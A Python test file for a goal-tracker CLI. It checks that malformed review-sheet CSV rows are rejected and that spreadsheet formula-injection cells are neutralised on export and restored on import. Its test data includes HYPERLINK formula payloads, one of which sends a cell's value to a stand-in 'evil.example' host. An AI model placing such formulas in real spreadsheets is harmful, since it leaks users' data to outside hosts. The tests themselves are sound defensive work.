"""The review sheet (`tracker review export` / `import`) and goals.csv: a malformed row is an error with its
line and nothing is imported; cells a spreadsheet would run as formulas are neutralised, and read back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine

from tests.conftest import REPORTS
from tracker import review, store
from tracker.cli import main
from tracker.db import open_db
from tracker.export import goals_csv
from tracker.pipeline import ingest_paths, match_all

SH18 = REPORTS / "shanghai-2018.txt"
SH24 = REPORTS / "shanghai-2024.txt"


@pytest.fixture
def engine(db_url: str) -> Engine:
    e = open_db(db_url)
    assert not ingest_paths(e, [SH18, SH24]).failed
    match_all(e)
    return e


def tracker(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def _sheet_lines(engine: Engine) -> list[list[str]]:
    """The exported sheet as rows, with the first goal filled in (a valid decision)."""
    text = review.export_csv(review.listed(review.load(engine), reports=("shanghai-2018.txt",)))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    head = rows[0]
    rows[1][head.index("new_verdict")] = "met"
    rows[1][head.index("note")] = "checked"
    return rows


def _write(rows: list[list[str]], raw: dict[int, str], path: Path) -> Path:
    """``rows`` as CSV, one per line, with some lines (0-based) replaced by raw text."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    lines = buf.getvalue().splitlines()
    for i, text in raw.items():
        lines[i] = text
    path.write_text("\ufeff" + "\n".join(lines) + "\n", "utf-8")
    return path


def _csv_line(row: list[str]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(row)
    return buf.getvalue()


def _refused(res: Result, sheet: Path, line: int, what: str) -> str:
    assert res.exit_code == 2, res.output
    assert "Traceback" not in res.output
    errors = [ln for ln in res.stderr.splitlines() if ln.startswith("error:")]
    assert len(errors) == 1, res.stderr
    assert errors[0].startswith(f"error: {sheet}:{line}: {what}"), errors[0]
    assert res.stderr.splitlines()[-1] == f"1 problem(s) in {sheet}; nothing was imported"
    return errors[0]


def test_an_unbalanced_quote_is_an_error_and_nothing_is_imported(engine: Engine, db_url: str, tmp_path: Path) -> None:
    rows = _sheet_lines(engine)
    head = rows[0]
    second = list(rows[2])
    second[head.index("new_verdict")] = "missed"
    second[head.index("note")] = "x"
    # the note opens a quote it never closes: the rows below would end up inside the note
    bad = _csv_line(second)[: -len("x")] + '"the 2022 figure, see p. 3'
    sheet = _write(rows, {2: bad}, tmp_path / "sheet.csv")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    msg = _refused(res, sheet, 3, "")
    assert "unbalanced quote" in msg
    assert store.decisions(engine) == []


def test_a_quote_swallowing_rows_in_the_middle_is_an_error(engine: Engine, db_url: str, tmp_path: Path) -> None:
    rows = _sheet_lines(engine)
    head = rows[0]
    rows[2][head.index("new_verdict")] = "missed"
    rows[2][head.index("note")] = "PLACEHOLDER"
    rows[4][head.index("goal_quote")] = "QUOTE"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    text = buf.getvalue().replace("PLACEHOLDER", '"see below').replace(",QUOTE,", ',"QUOTE",')
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(text, "utf-8")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    assert res.exit_code == 2 and "Traceback" not in res.output
    assert f"error: {sheet}:3: " in res.stderr and "nothing was imported" in res.stderr
    assert store.decisions(engine) == []


@pytest.mark.parametrize("kind", ["short", "long"])
def test_a_short_or_long_row_is_an_error(engine: Engine, db_url: str, tmp_path: Path, kind: str) -> None:
    rows = _sheet_lines(engine)
    head = rows[0]
    rows[3][head.index("new_verdict")] = "missed"
    rows[3][head.index("note")] = "checked too"
    rows[3] = rows[3][:10] if kind == "short" else [*rows[3], "extra"]
    sheet = _write(rows, {}, tmp_path / "sheet.csv")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    n = 10 if kind == "short" else len(head) + 1
    _refused(res, sheet, 4, f"a {kind} row: {n} field(s), the header has {len(head)}")
    assert store.decisions(engine) == []


def test_a_field_over_the_csv_limit_is_an_error(engine: Engine, db_url: str, tmp_path: Path) -> None:
    rows = _sheet_lines(engine)
    head = rows[0]
    rows[2][head.index("new_verdict")] = "missed"
    rows[2][head.index("note")] = "很长" * (csv.field_size_limit() // 2 + 1)
    sheet = _write(rows, {}, tmp_path / "sheet.csv")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    _refused(res, sheet, 3, f"a field is longer than {csv.field_size_limit()} characters")
    assert store.decisions(engine) == []


def test_a_sheet_with_a_malformed_header_names_its_line(engine: Engine, db_url: str, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text('goal_id,"goal_key\ns1,k\n', "utf-8")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    assert res.exit_code == 2 and "Traceback" not in res.output
    assert res.stderr.startswith(f"error: {sheet}:1: ")


# ------------------------------------------------------------------------------ formula injection

TRICKY = [
    '=HYPERLINK("http://evil","x")',
    "+86 21 1234",
    "-- see p. 3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-x",
    "'plain",
    "-5",
    "+2.5",
    "plain",
    "",
]


def test_neutralise_is_undone_exactly() -> None:
    from tracker.csvcell import neutralise, restore

    for v in TRICKY:
        cell = neutralise(v)
        assert restore(cell) == v
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell in ("+2.5",)
        assert not cell.startswith("-") or cell == "-5"


def test_formula_cells_are_neutralised_in_goals_csv_and_the_review_sheet(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    state = review.load(engine)
    goal = next(g for g in review.listed(state))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    review.set_verdict(engine, goal.id, "missed", note=evil, by="@admin")
    rows = list(csv.DictReader(io.StringIO(goals_csv(engine).lstrip("\ufeff"))))
    row = next(r for r in rows if r["goal_id"] == goal.id)
    assert row["review_note"] == "'" + evil and row["reviewed_by"] == "'@admin"
    for r in rows:  # numbers stay numbers
        assert not r["margin"].startswith("'")
    out = tmp_path / "goals.csv"
    assert tracker("export", "--format", "csv", "--output", str(out), "--db", db_url).exit_code == 0
    assert f"'{evil}".replace('"', '""') in out.read_text("utf-8-sig")
    sheet = tmp_path / "sheet.csv"
    assert tracker("review", "export", "--output", str(sheet), "--db", db_url).exit_code == 0
    exported = list(csv.DictReader(io.StringIO(sheet.read_text("utf-8-sig"))))
    assert next(r for r in exported if r["goal_id"] == goal.id)["reviewed_by"] == "'@admin"


def test_notes_come_back_exactly_from_a_neutralised_sheet(engine: Engine, db_url: str, tmp_path: Path) -> None:
    from tracker.csvcell import SafeWriter

    text = review.export_csv(review.listed(review.load(engine)))
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    notes = [v for v in TRICKY if v.strip()]
    buf = io.StringIO()
    w = SafeWriter(buf)
    w.writerow(review.CSV_COLUMNS)
    for r, note in zip(rows, notes, strict=False):
        r.update(new_verdict="needs_review", note=note.replace("\r", " "))
        w.writerow([r[c] for c in review.CSV_COLUMNS])
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(buf.getvalue(), "utf-8")
    res = tracker("review", "import", str(sheet), "--by", "team", "--db", db_url)
    assert res.exit_code == 0, res.output
    assert sorted(d.note for d in store.decisions(engine)) == sorted(n.replace("\r", " ").strip() for n in notes)
